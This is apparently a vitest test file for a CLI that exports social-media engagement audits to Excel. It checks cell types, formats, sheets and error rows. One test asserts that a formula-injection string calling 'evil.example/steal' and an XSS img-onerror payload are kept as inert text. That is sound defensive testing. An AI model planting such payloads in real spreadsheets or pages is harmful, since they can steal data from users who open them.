/**
 * The Excel workbook (docs/reports.md "Excel workbook"), read back by another route than the one that
 * wrote it: unzipped with yauzl and its sheet XML read here: cell types, number formats, values.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import yauzl from 'yauzl';
import { describe, expect, it } from 'vitest';
import { runCli, withTempDir } from './helpers.js';

const ARCHIVE = 'fixtures/x-archive/sample-2022.zip';

async function unzip(data: Buffer): Promise<Map<string, string>> {
  const zip = await new Promise<yauzl.ZipFile>((resolve, reject) => yauzl.fromBuffer(data, { lazyEntries: true }, (e, z) => (e ? reject(e) : resolve(z))));
  const files = new Map<string, string>();
  await new Promise<void>((resolve, reject) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      zip.openReadStream(entry, (e, stream) => {
        if (e) return reject(e);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          files.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
          zip.readEntry();
        });
      });
    });
    zip.on('end', () => resolve());
    zip.on('error', reject);
    zip.readEntry();
  });
  return files;
}

const unxml = (s: string): string => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');

interface XCell {
  type: string | undefined;
  /** The number format of its style, or undefined. */
  format: string | undefined;
  bold: boolean;
  value: string | number | boolean;
  formula: boolean;
}

/** Every sheet as a grid of header name → cell, read from the XML. */
async function workbook(data: Buffer): Promise<{ names: string[]; sheets: Map<string, Array<Record<string, XCell>>>; files: Map<string, string> }> {
  const files = await unzip(data);
  const strings = [...(files.get('xl/sharedStrings.xml') ?? '').matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => unxml([...m[1]!.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join('')));
  const styles = files.get('xl/styles.xml')!;
  const numFmts = new Map([...styles.matchAll(/<numFmt numFmtId="(\d+)" formatCode="([^"]*)"/g)].map((m) => [m[1]!, unxml(m[2]!)]));
  const fonts = [...styles.matchAll(/<font>([\s\S]*?)<\/font>/g)].map((m) => m[1]!.includes('<b/>'));
  const xfs = [.../<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1]!.matchAll(/<xf([^>]*)>/g)].map((m) => ({
    format: numFmts.get(/numFmtId="(\d+)"/.exec(m[1]!)?.[1] ?? ''),
    bold: fonts[Number(/fontId="(\d+)"/.exec(m[1]!)?.[1] ?? 0)] ?? false,
  }));
  const names = [...files.get('xl/workbook.xml')!.matchAll(/<sheet [^>]*name="([^"]*)"/g)].map((m) => unxml(m[1]!));
  const sheets = new Map<string, Array<Record<string, XCell>>>();
  names.forEach((name, i) => {
    const xml = files.get(`xl/worksheets/sheet${i + 1}.xml`)!;
    const rows = [...xml.matchAll(/<row [^>]*>([\s\S]*?)<\/row>/g)].map((row) =>
      [...row[1]!.matchAll(/<c r="([A-Z]+)\d+"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map((c) => {
        const attrs = c[2]!;
        const type = /t="(\w+)"/.exec(attrs)?.[1];
        const style = xfs[Number(/s="(\d+)"/.exec(attrs)?.[1] ?? 0)]!;
        const raw = /<v>([\s\S]*?)<\/v>/.exec(c[3] ?? '')?.[1] ?? /<t[^>]*>([\s\S]*?)<\/t>/.exec(c[3] ?? '')?.[1] ?? '';
        const value = type === 's' ? strings[Number(raw)]! : type === 'inlineStr' || type === 'str' ? unxml(raw) : type === 'b' ? raw === '1' : Number(raw);
        return { col: c[1]!, cell: { type, format: style.format, bold: style.bold, value, formula: /<f[ >]/.test(c[3] ?? '') } };
      }),
    );
    const head = new Map(rows[0]!.map(({ col, cell }) => [col, String(cell.value)]));
    sheets.set(name, [rows[0]!, ...rows.slice(1)].map((row) => Object.fromEntries(row.map(({ col, cell }) => [head.get(col)!, cell]))));
  });
  return { names, sheets, files };
}

/** A UTC time as an Excel serial day (days since 1899-12-30). */
const serial = (iso: string): number => (Date.parse(iso) - Date.UTC(1899, 11, 30)) / 86_400_000;

describe('-o report.xlsx', () => {
  it('writes a workbook of typed cells: numbers, percent-format fractions, date cells, booleans, empty for null; a bold frozen header; one sheet per section', async () => {
    await withTempDir(async (dir) => {
      const file = path.join(dir, 'r.xlsx');
      const r = await runCli([ARCHIVE, '-o', file]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toBe('');
      const { names, sheets, files } = await workbook(await readFile(file));
      expect(names).toEqual(['Summary', 'Audits', 'Monthly', 'Top interactors']);
      for (const name of names) expect(name.length).toBeLessThanOrEqual(31);
      const [head, row] = sheets.get('Summary')!;
      expect(Object.values(head!).every((c) => c.bold && c.type === 's')).toBe(true);
      expect(files.get('xl/worksheets/sheet1.xml')).toMatch(/<pane ySplit="1"[^>]*state="frozen"/);
      // 95 engagements over 17 own posts, ÷ 12 followers; shown as a percent.
      expect(row!['engagement_rate']!.type).toBeUndefined();
      expect(row!['engagement_rate']!.value as number).toBeCloseTo(95 / 17 / 12, 12);
      expect(row!['engagement_rate']!.format).toBe('0.0%');
      expect(row!['follow_ratio']!.format).toBeUndefined();
      expect(row!['posts']!).toMatchObject({ value: 32, format: undefined });
      expect(row!['as_of']!).toMatchObject({ value: serial('2025-06-02T00:00:00Z'), format: 'yyyy-mm-dd' });
      expect(row!['window_since']!).toMatchObject({ value: serial('2025-02-03T00:00:00Z'), format: 'yyyy-mm-dd' });
      // SOURCE_DATE_EPOCH 1767225600.
      expect(row!['generated_at']!).toMatchObject({ value: serial('2026-01-01T00:00:00Z'), format: 'yyyy-mm-dd hh:mm:ss' });
      expect(row!['complete']!).toMatchObject({ type: 'b', value: true });
      expect(row!['handle']!).toMatchObject({ type: 's', value: 'tidepool_lab' });
      // Not available: no cell at all.
      expect(row!['rate_by_impressions']).toBeUndefined();
      expect(sheets.get('Audits')!.length).toBe(1 + 11);
      expect(sheets.get('Monthly')![1]!['engagement_rate']!.format).toBe('0.0%');
    });
  });

  it('keeps text from the input that starts with = + - @ as string cells, never formulas', async () => {
    await withTempDir(async (dir) => {
      const file = path.join(dir, 'h.xlsx');
      const r = await runCli(['fixtures/hostile/dataset.json', '--as-of', '2025-03-31', '-o', file, '--quiet']);
      expect(r.code, r.stderr).toBe(0);
      const { sheets, files } = await workbook(await readFile(file));
      const cells = [...sheets.values()].flat().flatMap((row) => Object.values(row));
      expect(cells.some((c) => c.formula)).toBe(false);
      for (const [name, xml] of files) if (name.startsWith('xl/worksheets/')) expect(xml, name).not.toMatch(/<f[ >]/);
      const risky = cells.filter((c) => typeof c.value === 'string' && /^[=+\-@]/.test(c.value));
      expect(risky.map((c) => c.value)).toEqual(expect.arrayContaining(['=HYPERLINK("http://evil.example/steal","click")', '@"><img src=x onerror=alert(1)>']));
      for (const c of risky) expect(c.type).toBe('s');
    });
  });

  it('holds a row per target in the Summary, an error row for a target that failed', async () => {
    await withTempDir(async (dir) => {
      const file = path.join(dir, 'r.xlsx');
      const r = await runCli([ARCHIVE, 'fixtures/nothing-here.zip', '-o', file, '--quiet']);
      expect(r.code).toBe(3);
      const { sheets } = await workbook(await readFile(file));
      const [, ok, failed] = sheets.get('Summary')!;
      expect(ok!['handle']!.value).toBe('tidepool_lab');
      expect(failed!['target']!.value).toBe('fixtures/nothing-here.zip');
      expect(String(failed!['error']!.value)).toMatch(/no such file or folder/);
      expect(failed!['posts']).toBeUndefined();
    });
  });

  it('goes to standard output only when it is not a terminal', async () => {
    const tty = await runCli([ARCHIVE, '--format', 'xlsx'], { isTTY: true, stdoutBytes: () => expect.unreachable() });
    expect(tty.code).toBe(2);
    expect(tty.stderr).toMatch(/^engage-audit: binary output to a terminal/);
    expect(tty.stdout).toBe('');
    const chunks: Uint8Array[] = [];
    const piped = await runCli([ARCHIVE, '--format', 'xlsx'], { stdoutBytes: (d) => void chunks.push(d) });
    expect(piped.code, piped.stderr).toBe(0);
    const { names } = await workbook(Buffer.concat(chunks));
    expect(names[0]).toBe('Summary');
  });
});
